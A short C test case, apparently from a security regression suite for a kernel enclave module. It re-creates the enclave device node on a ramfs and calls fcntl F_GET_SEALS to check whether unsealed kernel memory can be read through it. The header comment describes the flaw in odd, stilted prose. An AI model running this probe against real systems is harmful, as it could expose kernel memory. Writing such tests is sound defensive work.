// SPDX-License-Identifier: LGPL-2.1-or-later
/*
 * Seals belong to memory files, and the kernel keeps them in front of the inode. It takes a
 * file for one by what the file's pages come from. An enclave's mappings hang on a memory file
 * of the module's, but the inode is the device's: on a file system that is none of memory
 * there are no seals in front of it, but memory of the kernel's. R20.4: the descriptor is no
 * memory file. The hole is shmem_anchor.
 */
#include <fcntl.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>

#include "attack.h"

#define DIRECTORY	"/tmp/ramfs"
#define NODE		DIRECTORY "/sgx_enclave"

void attack(void)
{
	struct stat st;
	int fd, seals;

	REQUIRE(!stat(AVOW_DEVICE, &st));
	REQUIRE(!mkdir(DIRECTORY, 0700) || errno == EEXIST);
	REQUIRE(!mount("ramfs", DIRECTORY, "ramfs", 0, NULL));
	REQUIRE(!mknod(NODE, S_IFCHR | 0600, st.st_rdev));
	fd = open(NODE, O_RDWR | O_CLOEXEC);
	REQUIRE(!umount2(DIRECTORY, MNT_DETACH));
	REQUIRE(fd >= 0);

	seals = fcntl(fd, F_GET_SEALS);
	ATTEMPT_UNRECORDED(seals, EINVAL);
	got_through("read %#x, of memory of the kernel's that is nobody's seals", (unsigned int)seals);
}
